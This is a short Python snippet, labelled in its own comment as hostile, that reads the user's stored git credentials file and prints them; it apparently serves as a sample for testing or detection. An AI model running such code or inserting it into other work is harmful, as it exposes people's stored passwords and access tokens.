# hostile: stored git credentials read
from pathlib import Path

print((Path.home() / ".git-credentials").read_text())
